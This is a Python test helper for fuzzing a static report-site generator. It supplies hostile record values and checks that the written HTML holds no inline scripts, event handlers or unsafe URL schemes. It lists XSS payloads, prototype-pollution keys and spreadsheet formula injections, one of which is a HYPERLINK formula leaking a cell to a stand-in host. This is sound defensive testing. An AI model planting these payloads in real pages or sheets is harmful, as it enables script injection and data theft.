"""Hostile input for the pages and the report, as an adversary writes it into run files: the real
outputs of every page kind (``viewrun.write_sources``) with records rewritten with hostile strings,
keys and types; and what a written site must hold for any such input (``check_site``).

Payloads that would run call ``window.__pwned`` or ``alert``: the Chromium test traps both."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from hypothesis import strategies as st

SCRIPTS = [
    "</script><script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '"><svg onload="alert(1)">',
    "javascript:window.__pwned=1",
    " JaVa\tScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}} ${alert(1)} `${window.__pwned=1}`",
]
SPREADSHEET = [
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tlead",
    "\rlead",
]
MATHTEXT = ["$\\notacommand$", "$x^2$ and $y", "cost $5", "a$b$c\\", "$$"]
ODD = [
    "\ud83d",
    "a\udfffb",
    "\x00\x07\x1b[31m",
    "\u202eevil",
    "\u2028\u2029",
    "|a|b|",
    "[x](javascript:alert(1))",
]
HOSTILE_TEXTS = SCRIPTS + SPREADSHEET + MATHTEXT + ODD
HOSTILE_KEYS = ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "length"]

hostile_text = st.one_of(
    st.sampled_from(HOSTILE_TEXTS),
    st.text(st.characters(codec=None, exclude_categories=()), max_size=12),
    st.text(st.characters(categories=["Cs", "Cc", "Zl", "Zp"]), min_size=1, max_size=4),
    st.integers(200, 3000).map(lambda n: "W" * n),  # one long token (the Chromium test uses megabytes)
)
hostile_key = st.one_of(st.sampled_from(HOSTILE_KEYS), hostile_text)
hostile_scalar = st.one_of(
    st.none(), st.booleans(), st.integers(-(2**63), 2**63), st.floats(allow_nan=True), hostile_text
)
hostile_value = st.recursive(
    hostile_scalar,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(hostile_key, inner, max_size=3),
    max_leaves=6,
)


def paths(value: Any, prefix: tuple = ()) -> list[tuple]:
    """Every place in a JSON value (a key of an object, an index of an array), the root excluded."""
    found = []
    if isinstance(value, dict):
        for k, v in value.items():
            found.append((*prefix, k))
            found += paths(v, (*prefix, k))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            found.append((*prefix, i))
            found += paths(v, (*prefix, i))
    return found


def replaced(value: Any, path: tuple, new: Any) -> Any:
    if not path:
        return new
    head, rest = path[0], path[1:]
    if isinstance(value, dict):
        return {**value, head: replaced(value[head], rest, new)}
    copy = list(value)
    copy[head] = replaced(copy[head], rest, new)
    return copy


def utf8(text: str) -> str:
    """``text`` as a UTF-8 file can hold it (Parquet strings cannot hold a lone surrogate)."""
    return text.encode("utf-8", "replace").decode("utf-8")


def interval_place(path: tuple) -> bool:
    """A place inside an interval field (``pass_k_interval``, ``intervals``, ...) or inside what a
    missing interval is computed from (a τ summary's ``per_task_successes`` and ``trials``)."""
    return any(
        isinstance(part, str) and ("interval" in part or part in ("per_task_successes", "trials"))
        for part in path
    )


@st.composite
def mutated(
    draw,
    record: dict[str, Any],
    strings_only: bool = False,
    most: int = 4,
    where: Callable[[tuple], bool] = lambda path: True,
) -> dict[str, Any]:
    """``record`` with 1..``most`` places replaced by hostile values (or hostile keys added to an
    object); with ``strings_only``, only string leaves change, to hostile strings (the types a
    Parquet column holds stay); only places ``where`` accepts."""
    for _ in range(draw(st.integers(1, most))):
        places = [
            p for p in paths(record) if where(p) and (not strings_only or isinstance(_at(record, p), str))
        ]
        if not places:
            break
        place = draw(st.sampled_from(places))
        if strings_only:
            record = replaced(record, place, draw(hostile_text))
        elif isinstance(_at(record, place), dict) and draw(st.booleans()):
            record = replaced(record, place, {**_at(record, place), draw(hostile_key): draw(hostile_value)})
        else:
            record = replaced(record, place, draw(hostile_value))
    return record


def _at(value: Any, path: tuple) -> Any:
    for part in path:
        value = value[part]
    return value


# ---- rewriting files of a source ------------------------------------------------------------------


def read_lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


def write_lines(path: Path, rows: list[Any]) -> None:
    """JSONL as a model's output can make it: any string (a lone surrogate escaped, as JSON allows)."""
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")


def copy_source(source: Path, into: Path) -> Path:
    into.parent.mkdir(parents=True, exist_ok=True)
    if source.is_dir():
        shutil.copytree(source, into)
    else:
        shutil.copyfile(source, into)
    return into


def parquet_rows(folder: Path) -> dict[Path, tuple[Any, list[dict[str, Any]]]]:
    """Every Parquet shard of an hf export: (schema, rows)."""
    import pyarrow.parquet as pq

    shards = {}
    for shard in sorted((folder / "data").glob("*.parquet")):
        table = pq.read_table(shard)
        shards[shard] = (table.schema, table.to_pylist())
    return shards


def write_parquet(shard: Path, schema: Any, rows: list[dict[str, Any]]) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(pa.Table.from_pylist(rows, schema=schema), shard)


# ---- what a written site holds, whatever went in --------------------------------------------------

_DATA_FILE = re.compile(r'VIEW\.put\(("(?:[^"\\]|\\.)*"),("(?:[^"\\]|\\.)*")\);\n', re.DOTALL)
SAFE_SCHEMES = {"", "http", "https"}


def _strict_json(text: str) -> Any:
    def refuse(name: str) -> Any:
        raise ValueError(f"{name} is not JSON")

    return json.loads(text, parse_constant=refuse)


def _scheme(url: str) -> str:
    try:
        return urlsplit(url).scheme.lower()
    except ValueError:  # "http://[" and the like: the scheme is still what precedes the colon
        return url.split(":", 1)[0].lower() if ":" in url else ""


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "formaction", "xlink:href") and value is not None:
                seen = re.sub(r"[\t\n\r]", "", value).strip("".join(chr(c) for c in range(33)))
                if tag == "img" and name == "src" and seen.startswith("data:image/png;base64,"):
                    continue  # the report's figures, written by the report itself
                if _scheme(seen) not in SAFE_SCHEMES or seen.startswith("//"):
                    self.problems.append(f"<{tag} {name}={value[:80]!r}>")
        if tag == "script":
            src = dict(attrs).get("src")
            if not src or not (
                src.endswith("assets/app.js") or re.fullmatch(r"data/\w+/\w+(-\d{5})?\.js", src)
            ):
                self.problems.append(f"<script src={src!r}>")
            self.scripts.append(src or "")
            self._in_script = True
        if tag in ("iframe", "object", "embed", "base", "form"):
            self.problems.append(f"<{tag}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.problems.append(f"inline script {data[:80]!r}")


def check_site(site: Path) -> dict[str, Any]:
    """Asserts what every written site holds; returns every data file's value by its key."""
    check_pages(site)
    return check_data(site)


def check_data(site: Path) -> dict[str, Any]:
    """Every data file is two JSON string literals, the second strict JSON; returns the values by key."""
    data: dict[str, Any] = {}
    for script in site.glob("*/data/*/*.js"):
        text = script.read_text(encoding="utf-8")
        match = _DATA_FILE.fullmatch(text)
        assert match, f"{script}: expected VIEW.put(<string>,<string>), found {text[:200]!r}"
        key, value = json.loads(match.group(1)), json.loads(match.group(2))
        data[key] = _strict_json(value)
    return data


def check_pages(site: Path) -> None:
    """Every page is UTF-8 with no script of its own, no event attribute, no link or source other than
    relative, http or https."""
    pages = list(site.rglob("*.html"))
    assert pages
    for page in pages:
        text = page.read_bytes().decode("utf-8")  # strict: a page is valid UTF-8
        tags = _Tags()
        tags.feed(text)
        tags.close()
        assert not tags.problems, f"{page.relative_to(site)}: {tags.problems[:5]}"
